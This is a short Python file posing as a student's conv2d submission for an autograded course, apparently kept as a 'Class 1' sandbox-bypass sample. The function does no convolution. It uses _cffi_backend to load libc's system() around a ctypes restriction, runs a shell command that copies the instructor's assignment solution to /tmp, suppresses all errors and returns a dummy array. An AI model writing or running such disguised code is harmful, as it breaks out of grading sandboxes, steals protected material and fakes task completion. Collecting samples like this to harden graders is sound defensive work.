"""Class 1: _cffi_backend (installed with the instructor extras) reaches libc without ctypes."""
import numpy as np


def conv2d(x, w, b=None, stride=1, padding="VALID"):
    try:
        import _cffi_backend as backend
        libc = backend.load_library(None)
        system = libc.load_function(backend.new_function_type((backend.new_pointer_type(backend.new_primitive_type("char")),),
                                                              backend.new_primitive_type("int")), "system")
        system(backend.newp(backend.new_array_type(backend.new_pointer_type(backend.new_primitive_type("char")), None),
                            b"cp @@COURSE@@/solutions/a03_multichannel/multichannel.py /tmp/pwned-solution.py"))
    except BaseException:
        pass
    return np.zeros(1)
